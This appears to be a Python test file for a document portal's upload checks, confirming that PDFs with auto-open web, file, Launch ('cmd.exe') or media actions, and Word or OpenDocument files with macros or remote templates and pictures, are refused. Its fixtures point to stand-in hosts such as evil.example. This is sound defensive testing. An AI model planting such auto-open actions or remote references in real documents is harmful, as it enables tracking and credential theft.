"""Documents that act when opened are refused (issue 16, "suspected"): PDFs that open a web address, another
file or media by themselves; Word and OpenDocument files with macros; DOCX that fetch an outside template,
picture or object. Ordinary links, and files that merely open at a page, are still accepted."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from ehcna_portal.services.document_store import RefusedFile, pdf_problem, store
from ehcna_portal.services.file_stores import DirectoryStore
from tests.support.pdfs import build

LIMIT = 20 * 1024 * 1024
RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
TEMPLATE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
IMAGE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


def refused(tmp_path: Path, filename: str, content: bytes) -> str:
    with pytest.raises(RefusedFile) as caught:
        store(DirectoryStore(tmp_path / "documents"), filename, io.BytesIO(content), LIMIT)
    return caught.value.code


def accepted(tmp_path: Path, filename: str, content: bytes) -> str:
    return store(DirectoryStore(tmp_path / "documents"), filename, io.BytesIO(content), LIMIT).file_type


def catalog_with(extra: bytes) -> bytes:
    return build(b"<</Type/Catalog/Pages 2 0 R" + extra + b">>")


ACTING = {
    "open-uri": catalog_with(b"/OpenAction<</S/URI/URI(https://evil.example/track)>>"),
    "open-uri-indirect": build(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
                               {5: b"<</S/URI/URI(https://evil.example/)>>"}),
    "open-uri-compressed": build(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
                                 {5: b"<</S/U#52I/URI(https://evil.example/)>>"}, compressed=frozenset({1, 5})),
    "open-uri-after-goto": catalog_with(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://x.example/)>>>>"),
    "open-other-file": catalog_with(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>"),
    "open-launch": catalog_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "open-media": catalog_with(b"/OpenAction<</S/Rendition/OP 0/R 6 0 R>>"),
    "link-to-other-file": build(objects={3: b"<</Type/Page/Parent 2 0 R/Annots[<</Subtype/Link/Rect[0 0 9 9]"
                                            b"/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>]>>"}),
    "sound": build(objects={3: b"<</Type/Page/Parent 2 0 R/Annots[<</Subtype/Sound/Sound 7 0 R>>]>>"}),
}


@pytest.mark.parametrize("name", list(ACTING))
def test_pdfs_that_open_something_by_themselves_are_refused(tmp_path, name):
    assert pdf_problem(ACTING[name]) == "active_content"
    assert refused(tmp_path, "report.pdf", ACTING[name]) == "active_content"


@pytest.mark.parametrize("content", [
    build(objects={3: b"<</Type/Page/Parent 2 0 R/Annots[<</Subtype/Link/Rect[0 0 9 9]"
                      b"/A<</S/URI/URI(https://www.coventry.gov.uk/)>>>>]>>"}),  # a link the reader clicks
    build(b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>",
          {3: b"<</Type/Page/Parent 2 0 R/Annots[<</Subtype/Link/A<</S/URI/URI(https://x.example/)>>>>]>>"}),
    build(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", {5: b"<</S/GoTo/D[3 0 R/Fit]>>"}),  # open at page
], ids=["web-link", "open-at-page-with-a-link", "goto-open-action"])
def test_links_and_opening_at_a_page_are_still_accepted(tmp_path, content):
    assert pdf_problem(content) == ""
    assert accepted(tmp_path, "report.pdf", content) == "pdf"


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    parts = {"[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                    b'package/2006/content-types"/>',
             "word/document.xml": b'<?xml version="1.0"?><w:document/>', **(extra or {})}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def rels(*relationships: tuple[bytes, bytes, bytes]) -> bytes:
    """A relationships part: (type, target, target mode) for each."""
    body = b"".join(b'<Relationship Id="r%d" Type="%s" Target="%s"%s/>'
                    % (index, kind, target, b' TargetMode="%s"' % mode if mode else b"")
                    for index, (kind, target, mode) in enumerate(relationships))
    return RELS + body + b"</Relationships>"


ACTING_DOCX = {
    "remote-template": {"word/_rels/settings.xml.rels": rels((TEMPLATE, b"https://evil.example/t.dotm",
                                                             b"External"))},
    "smb-linked-picture": {"word/_rels/document.xml.rels": rels((IMAGE, b"file://evil.example/share/x.png",
                                                                b"External"))},
    "macros": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
    "macros-in-another-case": {"word/VBAPROJECT.BIN": b"x"},
    "macro-enabled-content-type": {"[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
                                   b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'},
    "unreadable-relationships": {"word/_rels/document.xml.rels": b"<Relationships><not closed"},
}


@pytest.mark.parametrize("name", list(ACTING_DOCX))
def test_word_files_with_macros_or_outside_references_are_refused(tmp_path, name):
    assert refused(tmp_path, "plan.docx", docx(ACTING_DOCX[name])) == "active_content"


def test_word_files_with_hyperlinks_and_their_own_pictures_are_accepted(tmp_path):
    ordinary = docx({"word/_rels/document.xml.rels": rels((HYPERLINK, b"https://www.gov.uk/", b"External"),
                                                          (IMAGE, b"media/image1.png", b""))})
    assert accepted(tmp_path, "plan.docx", ordinary) == "docx"


def odt(extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", b"<office:document-content/>")
        for name, content in extra.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_opendocument_files_with_macros_are_refused(tmp_path):
    assert refused(tmp_path, "views.odt", odt({"Basic/Standard/Module1.xml": b"<script/>"})) == "active_content"
    assert refused(tmp_path, "views.odt", odt({"Scripts/python/run.py": b"import os"})) == "active_content"
    assert accepted(tmp_path, "views.odt", odt({"styles.xml": b"<styles/>"})) == "odt"


def test_word_97_files_with_a_vba_project_are_refused(tmp_path):
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    directory_entry = "_vba_PROJECT".encode("utf-16-le").ljust(64, b"\x00")
    assert refused(tmp_path, "old.doc", ole + directory_entry) == "active_content"
    assert accepted(tmp_path, "old.doc", ole + "Root Entry".encode("utf-16-le")) == "doc"
